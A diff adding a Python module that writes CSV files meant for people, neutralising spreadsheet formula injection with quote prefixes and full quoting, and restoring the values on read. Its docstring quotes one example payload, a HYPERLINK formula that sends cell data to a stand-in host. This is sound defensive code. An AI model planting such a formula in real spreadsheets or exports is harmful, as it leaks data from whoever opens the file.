@@ -1,0 +1,99 @@
+"""CSV files meant for people (opened in Excel or WPS): formula injection neutralised, one way for all.
+
+Spreadsheets run a cell as a formula when it starts with ``=``, ``+``, ``-`` or ``@`` (and after a
+leading tab or carriage return), so a legacy value such as ``=HYPERLINK("http://x/?"&A1,"open")``
+would act when a steward opens a quarantine file, and every E.164 phone (``+8613800000000``) would
+turn into a number. Following the OWASP CSV injection guidance, every human-facing file is written
+with:
+
+- a single quote in front of each text cell that starts with one of those characters, so the
+  spreadsheet shows it as text;
+- every cell wrapped in double quotes with embedded double quotes doubled (RFC 4180), so a delimiter
+  or quote inside a value cannot start a new cell that begins with a formula.
+
+A value that already starts with a single quote followed by one of those characters (or by another
+quote) also gets the prefix, which makes the change reversible: ``read_frame`` gives back exactly
+the original values, so the tool itself can read its quarantine files without seeing the quotes.
+
+Data Loader-shaped load files (``load/<Object>_success.csv`` / ``_error.csv``) and the CSV sent to
+Salesforce stay raw: they are inputs for Data Loader and the Bulk API, which take cells literally.
+"""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+from typing import Any, Iterable
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+_AFTER_QUOTE = DANGEROUS + (QUOTE,)
+ENCODING = "utf-8-sig"  # Excel on a Chinese Windows only detects UTF-8 with a BOM
+
+
+def neutralise(value: Any) -> Any:
+    """``value`` made inert for a spreadsheet; anything that is not a string is returned unchanged."""
+    if isinstance(value, str) and value and (
+            value[0] in DANGEROUS or (value[0] == QUOTE and len(value) > 1 and value[1] in _AFTER_QUOTE)):
+        return QUOTE + value
+    return value
+
+
+def restore(value: Any) -> Any:
+    """The original of a ``neutralise``-d value (the inverse; other values pass unchanged)."""
+    if isinstance(value, str) and len(value) > 1 and value[0] == QUOTE and value[1] in _AFTER_QUOTE:
+        return value[1:]
+    return value
+
+
+def neutralise_frame(df):
+    """A copy of ``df`` whose text cells are neutralised (vectorised per column)."""
+    import pandas as pd
+
+    out = df.copy()
+    for col in out.columns:
+        s = out[col]
+        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
+            out[col] = s.map(neutralise)
+    return out
+
+
+def write_frame(df, path: str | Path, columns: list[str] | None = None) -> Path:
+    """Write ``df`` (``columns`` selects and orders) as a human-facing CSV: UTF-8 with BOM, every
+    cell quoted, text cells neutralised. Creates the parent folder."""
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    frame = df[columns] if columns is not None else df
+    neutralise_frame(frame).to_csv(path, index=False, encoding=ENCODING, quoting=csv.QUOTE_ALL)
+    return path
+
+
+def read_frame(path: str | Path, **kw):
+    """Read a file written by ``write_frame`` (or ``Writer``) back as strings, original values restored.
+
+    Empty cells are ``""`` (``keep_default_na=False``); ``kw`` goes to ``pandas.read_csv``.
+    """
+    import pandas as pd
+
+    df = pd.read_csv(path, dtype=str, keep_default_na=False, encoding=ENCODING, **kw)
+    df.columns = [restore(c) for c in df.columns]
+    for col in df.columns:
+        df[col] = df[col].map(restore)
+    return df
+
+
+class Writer:
+    """Row-by-row human-facing CSV (for files written while streaming); close it when done."""
+
+    def __init__(self, path: str | Path, header: Iterable[str]):
+        path = Path(path)
+        path.parent.mkdir(parents=True, exist_ok=True)
+        self._fh = open(path, "w", encoding=ENCODING, newline="")
+        self._w = csv.writer(self._fh, quoting=csv.QUOTE_ALL)
+        self._w.writerow([neutralise(h) for h in header])
+
+    def writerow(self, row: Iterable[Any]) -> None:
+        self._w.writerow(["" if v is None else neutralise(v) for v in row])
+
+    def close(self) -> None:
+        self._fh.close()
